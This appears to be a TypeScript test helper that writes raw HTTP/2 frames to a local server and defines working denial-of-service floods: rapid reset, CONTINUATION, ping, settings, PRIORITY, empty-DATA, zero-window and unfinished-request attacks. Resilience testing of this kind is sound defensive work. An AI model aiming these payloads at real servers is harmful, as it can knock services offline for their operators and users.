/** Frames of HTTP/2 as an attacker writes them: by hand, and as many as go. */
import { connect, type TLSSocket } from "node:tls";

export interface RawSession {
  readonly socket: TLSSocket;
  isClosed(): boolean;
  /** Resolves when there is room for more, or none will ever be. */
  write(bytes: Uint8Array): Promise<void>;
}

export function frame(type: number, flags: number, stream: number, payload: Uint8Array): Buffer {
  const bytes = Buffer.alloc(9 + payload.length);
  bytes.writeUIntBE(payload.length, 0, 3);
  bytes[3] = type;
  bytes[4] = flags;
  bytes.writeUInt32BE(stream, 5);
  bytes.set(payload, 9);
  return bytes;
}

/** A header as HPACK has it without any table. */
function literal(name: string, value: string): Buffer {
  const lengths = [Buffer.from([0, name.length]), Buffer.from([value.length])] as const;
  return Buffer.concat([lengths[0], Buffer.from(name), lengths[1], Buffer.from(value)]);
}

export function head(method: "GET" | "POST", path: string): Buffer {
  const indexed = Buffer.from([method === "GET" ? 0x82 : 0x83, 0x87]);
  return Buffer.concat([indexed, literal(":path", path), literal(":authority", "localhost")]);
}

const preface = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
const empty = new Uint8Array();

/** A connection on which only the preface was said. */
export async function openRaw(port: number, protocol = "h2"): Promise<RawSession> {
  const options = { host: "127.0.0.1", port, rejectUnauthorized: false };
  const socket = await new Promise<TLSSocket>((resolve, reject) => {
    const made = connect({ ...options, ALPNProtocols: [protocol] }, () => resolve(made));
    made.once("error", reject);
  });
  let closed = false;
  socket.on("error", () => {}); // told by the close
  socket.on("close", () => {
    closed = true;
  });
  socket.resume();
  const session: RawSession = {
    socket,
    isClosed: () => closed,
    write: (bytes) =>
      new Promise((resolve) => {
        if (closed || socket.write(bytes)) return resolve();
        const go = (): void => {
          socket.off("drain", go);
          socket.off("close", go);
          resolve();
        };
        socket.on("drain", go);
        socket.on("close", go);
      }),
  };
  if (protocol === "h2") {
    await session.write(Buffer.concat([preface, frame(4, 0, 0, empty)]));
  }
  return session;
}

const many = (count: number, make: (i: number) => Uint8Array): Buffer =>
  Buffer.concat(Array.from({ length: count }, (_, i) => make(i)));
const streamOf = (turn: number, each: number, i: number): number => 2 * (turn * each + i) + 1;

/** What each flood says in its `turn`-th piece. */
export const floods: Readonly<Record<string, (turn: number) => Uint8Array>> = {
  ping: () => many(500, () => frame(6, 0, 0, new Uint8Array(8))),
  settings: () => many(500, () => frame(4, 0, 0, empty)),
  "rapid reset": (turn) =>
    many(100, (i) => {
      const stream = streamOf(turn, 100, i);
      const cancel = frame(3, 0, stream, Uint8Array.of(0, 0, 0, 8));
      return Buffer.concat([frame(1, 5, stream, head("GET", "/version")), cancel]);
    }),
  "empty data": (turn) => {
    const begin = turn === 0 ? frame(1, 4, 1, head("POST", "/api")) : empty;
    return Buffer.concat([begin, many(500, () => frame(0, 0, 1, empty))]);
  },
  continuation: (turn) => {
    const begin = turn === 0 ? frame(1, 1, 1, head("GET", "/version")) : empty;
    const more = many(100, (i) => literal(`x-${i}`, "b".repeat(100)));
    return Buffer.concat([begin, frame(9, 0, 1, more)]);
  },
  // Answers are asked for and never taken.
  "window of nothing": (turn) => {
    const closed = turn === 0 ? frame(4, 0, 0, Uint8Array.of(0, 4, 0, 0, 0, 0)) : empty;
    const asked = many(10, (i) => frame(1, 5, streamOf(turn, 10, i), head("GET", "/version")));
    return Buffer.concat([closed, asked]);
  },
  priority: (turn) =>
    many(500, (i) => frame(2, 0, streamOf(turn, 500, i), Uint8Array.of(0, 0, 0, 0, 1))),
  "unfinished requests": (turn) =>
    many(20, (i) => frame(1, 4, streamOf(turn, 20, i), head("POST", "/api"))),
};
